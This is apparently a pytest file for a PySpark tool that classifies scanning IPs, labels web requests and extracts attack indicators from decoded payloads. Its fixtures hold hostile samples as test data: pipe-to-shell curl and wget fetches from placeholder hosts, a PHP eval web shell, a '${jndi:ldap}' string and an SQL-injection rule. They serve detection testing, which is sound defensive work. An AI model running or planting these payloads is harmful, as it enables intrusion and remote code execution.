"""Evidence, verdicts and readings from the documented tables, the classifier's ladder, indicators and streams' helpers."""

import base64
import re
from urllib.parse import quote, unquote_to_bytes

import pytest
from pyspark.sql import functions as F

from harrow.functions.columns import path_shape
from harrow.operators import evidence as E
from harrow.streaming.streams import sampled

KINDS = "ip long, kind string, value string, ref long"

#: One case and more for each row of the verdict table: kinds, exit, verdict.
VERDICTS = [
    (["fleet.key"], True, "declared"),
    (["fleet.key"], False, "rented fleet"),
    (["fleet.canary"], False, "rented fleet"),
    (["fleet.dense", "net.hosting"], False, "rented fleet"),
    (["name.scanner", "net.hosting"], False, "rented fleet"),
    (["net.hosting", "device.cpe"], False, "rented"),
    (["fleet.dense"], False, "unknown"),
    (["name.scanner"], False, "unknown"),
    (["device.cpe", "net.eyeball"], False, "consumer device"),
    (["device.cpe", "net.eyeball", "name.scanner"], False, "unknown"),
    (["device.proxy", "net.eyeball"], False, "proxy on a consumer line"),
    (["device.cpe"], False, "device only"),
    (["device.proxy", "name.pool"], False, "device only"),
    (["name.pool"], False, "unknown"),
]
#: Likewise for the readings: (kind, value), exit, reading, kinds shown.
READINGS = [
    ([("name.cgn", "")], True, "operator", []),
    ([("net.hosting", ""), ("device.cpe", "")], False, "operator", ["net.hosting"]),
    ([("name.scanner", "")], False, "operator", ["name.scanner"]),
    ([("fleet.key", "")], False, "operator", ["fleet.key"]),
    ([("fleet.canary", "")], False, "operator", ["fleet.canary"]),
    ([("device.cpe", ""), ("name.pool", ""), ("name.cgn", "")], False, "subscriber-pooled", ["device.cpe", "name.pool"]),
    ([("device.cpe", ""), ("name.mobile", "")], False, "subscriber", ["device.cpe"]),
    ([("name.cgn", ""), ("name.pool", "")], False, "shared-pool", ["name.cgn", "name.pool"]),
    ([("name.mobile", ""), ("name.pool", "")], False, "shared-mobile", ["name.mobile", "name.pool"]),
    ([("net.eyeball", "mobile")], False, "shared-mobile", ["net.eyeball"]),
    ([("net.eyeball", "fixed"), ("name.pool", "")], False, "pooled-line", ["name.pool"]),
    ([("name.consumer", "")], False, "consumer-line", ["name.consumer"]),
    ([("device.proxy", "")], False, "insufficient", []),
]


def test_verdicts(spark):
    rows = spark.createDataFrame([(i, k, "", 1) for i, (kinds, _, _) in enumerate(VERDICTS) for k in kinds], KINDS)
    exits = spark.createDataFrame([(i,) for i, (_, x, _) in enumerate(VERDICTS) if x], "ip long")
    assert {r["ip"]: r["verdict"] for r in E.verdict(rows, exits).collect()} == {i: v for i, (_, _, v) in enumerate(VERDICTS)}


def test_readings(spark):
    rows = spark.createDataFrame([(i, k, v, 1) for i, (kinds, _, _, _) in enumerate(READINGS) for k, v in kinds], KINDS)
    exits = spark.createDataFrame([(i,) for i, (_, x, _, _) in enumerate(READINGS) if x], "ip long")
    found = E.sharing_reading(rows, exits)
    assert {r["ip"]: r["reading"] for r in found.collect()} == {i: r for i, (_, _, r, _) in enumerate(READINGS)}
    shown = {}
    for r in E.reading_rows(rows, found).collect():
        shown.setdefault(r["ip"], []).append(r["kind"])
    assert {i: sorted(ks) for i, ks in shown.items()} == {i: sorted(ks) for i, (_, _, _, ks) in enumerate(READINGS) if ks}


DEVICES = [
    {"id": "a", "kind": "cpe", "product": "(?i)router", "ports": [7547]},
    {"id": "b", "kind": "cpe", "product": "(?i)router"},
    {"id": "p", "kind": "proxy", "service": "^socks5$"},
    {"id": "o", "kind": "cpe", "os_guess": "^Router OS"},
    {"id": "f", "kind": "proxy", "fact": "socks.method", "ports": [1080]},
]


def test_devices(spark):
    scans = spark.createDataFrame([(1, 10, 1000, "Router OS 6"), (2, 11, 1000, None), (3, 12, 1000, "Router OS 6")], "uid long, ip long, t long, os_guess string")
    ports = spark.createDataFrame([(1, 7547, "open", "http", "X Router"), (1, 80, "open", "http", "X Router"), (2, 1080, "open", "socks5", None), (2, 81, "closed", "x", "Router"), (3, 80, "open", None, "Router")], "scan_uid long, port int, state string, service string, product string")
    facts = spark.createDataFrame([(2, 1080, "socks.method"), (2, None, "socks.method"), (2, 99, "socks.method")], "scan_uid long, port int, kind string")
    last = spark.createDataFrame([(10, 1000 + E.DAY), (12, 1001 + E.DAY)], "ip long, last_seen long")
    found = {(r["ip"], r["kind"], r["value"]) for r in E.device_evidence(scans, ports, facts, last, DEVICES).collect()}
    assert found == {(10, "device.cpe", "a"), (10, "device.cpe", "b"), (10, "device.cpe", "o"), (11, "device.proxy", "p"), (11, "device.proxy", "f")}


def test_names(spark):
    lists = {"pool": [{"id": "dyn", "pattern": "(^|[.-])dyn"}, {"id": "pool", "pattern": "pool"}], "mobile": [{"id": "lte", "pattern": "lte"}]}
    names = spark.createDataFrame([(1, "Dyn-pool.lte.example", 0), (2, "pool.example", 0), (3, "dynatrace.example", 0), (4, "pool.example", 0)], "ip long, name string, last_seen long")
    last = spark.createDataFrame([(1, 30 * E.DAY), (2, 30 * E.DAY + 1)], "ip long, last_seen long")
    assert {(r["ip"], r["kind"], r["value"]) for r in E.name_evidence(names, last, lists).collect()} == {(1, "name.pool", "dyn"), (1, "name.mobile", "lte"), (3, "name.pool", "dyn"), (4, "name.pool", "pool")}


RULES = [
    {"label": "sqli", "weight": 4, "target_regex": "union select", "owasp": ["A03:2021"]},
    {"label": "php-probe", "weight": 1, "target_regex": r"\.php$"},
    {"label": "ai-agent-tooling", "weight": 1, "ua_regex": "^agent/"},
    {"label": "put-only", "weight": 2, "methods": ["PUT"]},
    {"label": "vetoed", "weight": 2, "header_regex": "x-test: 1", "unless_target_regex": "/chat"},
    {"label": "exact", "weight": 2, "path_exact": "/.env", "methods": ["GET"]},
]
#: target, method, agent, headers, paths in the hour, flags, then labels, severity, scan level.
LADDER = [
    ("/", "GET", "", "", 1, "", ["probe"], 1, 1),
    ("/", "GET", "agent/1", "", 1, "", ["ai-agent-tooling", "probe"], 1, 1),
    ("/x.PHP", "GET", "", "", 1, "", ["php-probe"], 1, 1),
    ("/", "GET", "", "", 10, "", ["path-scanner"], 2, 1),
    ("/q?a=1%27+UNION%20select", "GET", "", "", 1, "", ["sqli"], 4, 4),
    ("/", "POST", "", "", 1, "", ["form-interaction", "probe"], 3, 3),
    ("/", "PUT", "", "", 1, "", ["put-only", "write-method"], 3, 3),
    ("/", "CONNECT", "", "", 1, "", ["probe", "proxy-probe"], 2, 2),
    ("/", "get", "", "", 1, "", ["probe", "unusual-method"], 2, 2),
    ("/", "OPTIONS", "", "", 1, "", ["probe"], 1, 1),
    ("/", "GET", "", "X-Test: 1", 1, "", ["vetoed"], 2, 2),
    ("/%63hat", "GET", "", "X-Test: 1", 1, "", ["probe"], 1, 1),
    ("/.env", "GET", "", "", 1, "", ["exact"], 2, 2),
    ("/.env", "HEAD", "", "", 1, "", ["probe"], 1, 1),
    ("/", "GET", "", "", 1, "w", ["automation", "probe"], 2, 2),
    ("/", "GET", "", "", 1, "i", ["inhuman-behavior", "probe"], 3, 3),
    ("/", "GET", "", "", 1, "p", ["probe", "proxy-probe"], 2, 2),
]


def test_ladder(spark):
    rows = [(i, t, t.split("?")[0], m, a, h, "", p, 1, "p" in f, "w" in f, "i" in f) for i, (t, m, a, h, p, f, *_) in enumerate(LADDER)]
    df = spark.createDataFrame(rows, "id long, target string, path string, method string, agent string, headers string, body string, paths_1h int, requests_1h long, to_proxy boolean, webdriver boolean, inhuman_fill boolean")
    for r in E.classify(df, RULES).collect():
        assert (r["rule_labels"], r["rule_severity"], r["scan_level"]) == tuple(LADDER[r["id"]][6:]), LADDER[r["id"]]
    assert E.classify(df, []).where("rule_severity = 0").count() == 0


def brute_opened(text, depth):
    """Every layer as (text, depth, via), as the operator defines them."""
    printable = re.compile(r"[\x09\x0A\x0D\x20-\x7E\u00A0-\uFFFF]+")
    out, front = [(text, 0, "")], [(text, "")]
    for level in range(1, depth + 1):
        found = []
        for at, via in front:
            pieces = []
            if "%" in at:
                plain = at
                for _ in range(2):
                    try:
                        plain = unquote_to_bytes(plain.replace("+", " ")).decode()
                    except UnicodeDecodeError:
                        break
                pieces.append((plain, "percent"))
            raw = [(bytes.fromhex(m.replace("\\x", "")), "escape") for m in re.findall(r"((?:\\x[0-9a-fA-F]{2}){4,})", at)] + [(bytes.fromhex(m), "hex") for m in re.findall(r"\b((?:[0-9a-fA-F]{2}){8,})\b", at)]
            for m in re.findall(r"([A-Za-z0-9+/]{16,}={0,2})", at):
                m = m.rstrip("=")
                m = m[:-1] if len(m) % 4 == 1 else m
                raw.append((base64.b64decode(m + "=" * (-len(m) % 4)), "base64"))
            for b, how in raw:
                try:
                    pieces.append((b.decode(), how))
                except UnicodeDecodeError:
                    pass
            found += [(p, f"{via}>{how}" if via else how) for p, how in pieces if p != at and printable.fullmatch(p)]
        front = list(dict.fromkeys(found))
        out += [(p, level, via) for p, via in front]
    return out


def b64(s):
    return base64.b64encode(s.encode()).decode()


PAYLOADS = [
    "plain text with nothing",
    f"a={b64('wget http://one.test/x')}&b={b64('curl http://two.test/y')}",
    f"/usr/lib/python/site/packages/x {b64('curl http://three.test/')}",
    b64(b64(b64(b64("busybox tftp http://deep.test/z"))))[:-2],
    quote(quote("curl http://four.test/a b")),
    "\\x77\\x67\\x65\\x74 http",
    "curl http://five.test/".encode().hex() + " and " + b"wget ftp://six.test/q".hex(),
    "ssh-rsa " + "A" * 40,
    "%zz broken " + "Q" * 17,
    None,
    "",
    b64("x" * 5000 + " http://long.test/"),
]


def test_layers(spark):
    df = spark.createDataFrame(list(enumerate(PAYLOADS)), "id long, text string")
    for r in df.where("text IS NOT NULL").select("text", E.opened_layers(F.col("text")).alias("x")).collect():
        assert list(map(tuple, r["x"])) == brute_opened(r["text"], E.DEPTH), r["text"]


URL = r"(?i)\b((?:https?|ftp)://[a-z0-9.-]+(?::[0-9]+)?(?:/[^\s\"'<>;|)]*)?)"
RUNS = [
    ("GET", "/a", None, f"x={b64('wget http://one.net/x; echo http://said.org/y')}", "203.0.113.9"),
    ("POST", "/cgi/run.php", "cmd=1&b[]=2&bad name=3&cmd=4", "curl http://198.51.100.7/p | sh; wget http://203.0.113.9/self && ping http://named.net/", "203.0.113.9"),
    ("PUT", "/up/12345", "", "body", "203.0.113.9"),
    ("PUT", "/up/2", "", "", None),
    ("GET", "/x", "q=1", "<?php eval($_POST['a']); include 'http://shared.com/raw/k?t=1'; ?>", None),
    ("GET", "/y", None, "see http://one.net/other and curl http://one.net/x", None),
    ("GET", "/z", None, "wget http://10.1.2.3/a; wget http://localhost/b; wget http://2130706433/c; wget http://w3.never/d; wget http://a..b/e; wget http://172.20.0.1/f", None),
    ("GET", "/t", None, quote(quote("fetch ftp://deep.net/z")) + " ssh-ed25519 " + "B" * 30, None),
    ("GET", "/j", None, b64("look: ${jndi:ldap} " + b64("busybox tftp http://in.net/in")), None),
    ("GET", "/k", None, "one. wget\nhttp://nextline.net/", None),
    ("GET", None, None, None, None),
]


def brute_indicators(rows, shared, never, exploits, names):
    def host(u):
        return re.search("://([^/:]+)", u)[1].lower()

    def joinable(h):
        if any(h == n or h.endswith("." + n) for n in never):
            return False
        if re.fullmatch(r"([0-9]{1,3}\.){3}[0-9]{1,3}", h):
            return not re.match(E.NOT_PUBLIC, h)
        last = h.rsplit(".", 1)[-1]
        return "." in h and not re.search(r"^\.|\.\.|\.$", h) and not re.fullmatch("[0-9]+|0x.*", last) and not any(h == n or h.endswith("." + n) for n in E.LOCAL_NAMES)

    out = {}
    for i, (method, path, query, text, sender) in enumerate(rows):
        layers = brute_opened(text or "", E.DEPTH)
        found = []
        for t, depth, via in layers:
            staged = [u for m in re.findall(E.FETCHED, t) for u in re.findall(URL, m.split("&&")[0])]
            for u in re.findall(URL, t):
                role = "queried" if u not in staged or not joinable(host(u)) else "self-hosted" if host(u) == sender else "stager"
                found.append((depth, via, "url", role, u))
                if host(u) not in shared:
                    found.append((depth, via, "host", role, host(u)))
            found += [(depth, via, "tool", "tag", m.lower()) for m in re.findall(E.TOOLS, t)] + [(depth, via, "ssh-key", "key", m) for m in re.findall(E.SSH_KEY, t)]
            found += [(depth, via, "exploit", "exploit", n) for n, p in exploits if re.search(p, t, re.I)]
            if i in names and (staged or re.search(E.EXECUTED, t) or method == "PUT" and depth == 0 and t):
                found.append((depth, via, "exploit", "exploit", names[i]))
        kept = {v for _, _, kind, role, v in found if kind == "host" and role in ("stager", "self-hosted")}
        for depth, via, kind, role, v in found:
            if not (kind == "host" and role == "queried" and v in kept):
                out[i, kind, role, v] = min(out.get((i, kind, role, v), (depth, via)), (depth, via))
    return {(*k, *v) for k, v in out.items()}


def test_indicators(spark):
    df = spark.createDataFrame([(i, *r) for i, r in enumerate(RUNS)], "id long, method string, path string, query string, text string, sender string")
    exploits = [("jndi", r"\$\{jndi:"), ("php-eval", r"\beval\(")]
    names = {0: "GET /a", 1: "POST /cgi/run.php ?b[] cmd", 2: "PUT /up/{n}", 4: "GET /x ?q", 5: "GET /y", 6: "GET /z", 7: "GET /t", 8: "GET /j"}
    shapes = {r["id"]: r["s"] for r in df.where("path IS NOT NULL").select("id", path_shape(F.col("path")).alias("s")).collect()}
    names[2] = f"PUT {shapes[2]}"
    found = E.extract_indicators(df, "text", ["id"], ("shared.com",), ("w3.never",), "sender", exploits, ("method", "path", "query"))
    assert found.columns == ["id", "kind", "role", "value", "depth", "via"]
    got = set(map(tuple, found.collect()))
    assert got == brute_indicators(RUNS, {"shared.com"}, ["w3.never"], exploits, names)
    roles = {(i, kind, role, value) for i, kind, role, value, *_ in got}
    assert {(0, "host", "stager", "one.net"), (0, "host", "queried", "said.org"), (1, "host", "self-hosted", "203.0.113.9"), (1, "host", "stager", "198.51.100.7"), (1, "host", "queried", "named.net")} <= roles
    assert {(4, "url", "stager", "http://shared.com/raw/k?t=1"), (4, "exploit", "exploit", "php-eval"), (7, "host", "stager", "deep.net"), (8, "exploit", "exploit", "jndi"), (2, "exploit", "exploit", names[2])} <= roles
    assert (5, "host", "queried", "one.net") not in roles and {r for i, k, r, _ in roles if i == 6 and k == "host"} == {"queried"}
    assert {d for i, _, _, v, d, _ in got if i == 8 and v == "in.net"} == {2} and not [x for x in roles if x[0] in (3, 10)]


def test_indicators_of_payloads_alone(spark):
    df = spark.createDataFrame(list(enumerate(PAYLOADS)), "id long, text string")
    got = set(map(tuple, E.extract_indicators(df, "text", ["id"], ("two.test",)).collect()))
    assert got == brute_indicators([("GET", "/", None, t, None) for t in PAYLOADS], {"two.test"}, [], [], {})
    assert {(3, "host", "deep.test"), (1, "url", "http://two.test/y"), (6, "host", "six.test"), (11, "host", "long.test")} <= {(i, k, v) for i, k, _, v, *_ in got}


def test_indicators_open_layers_once(spark):
    df = spark.range(4).withColumn("text", F.lit("wget http://a.test/x http://a.test/y"))
    assert E.extract_indicators(df, "text", ["id"], ())._jdf.queryExecution().optimizedPlan().toString().count("Range (") == 1


def test_scan_reports_are_parsed_once(spark, tmp_path):
    from harrow.sources import readers

    (tmp_path / "r.xml").write_text('<nmaprun><host starttime="5"><address addr="10.0.0.1" addrtype="ipv4"/><ports><port protocol="tcp" portid="22"><state state="open"/></port></ports></host></nmaprun>')
    for table in readers.ingest_scan_reports(spark, str(tmp_path)).values():
        assert all(f.endswith(".parquet") for f in table.inputFiles())


def test_sampling():
    assert sampled([0, 0, 0, 0, 0, 0, 10, 1000], 0.1, 2.0, 2, (2.0, 0.0, 0))[0] == ["record", "record", "sample", "count", "sample", "count", "record", "record"]
    decisions, state = sampled([0, 0, 0], 0.1, 2.0, 2, (2.0, 0.0, 0))
    assert sampled([0, 0, 0, 0, 1000], 0.1, 2.0, 2, (2.0, 0.0, 0))[0] == decisions + sampled([0, 1000], 0.1, 2.0, 2, state)[0]


@pytest.mark.parametrize("name", ["stream_sampling"])
def test_stream_equals_its_batch_twin(spark, sf, name):
    """The token bucket over three deliveries decides as it does over each source's requests in order."""
    from harrow.plans import registry
    from harrow.plans.standins import view

    want = {}
    by = {}
    for r in view(spark, sf, "requests").select("ip", "t", "id").orderBy("ip", "t", "id").collect():
        by.setdefault(r["ip"], []).append((r["t"], r["id"]))
    for rows in by.values():
        want |= dict(zip([i for _, i in rows], sampled([t for t, _ in rows], 1 / 7200, 5.0, 4, (5.0, rows[0][0], 0))[0]))
    found = registry.load()[0][name](spark, sf).collect()
    assert len(found) == len(want) and {r["id"]: r["decision"] for r in found} == want
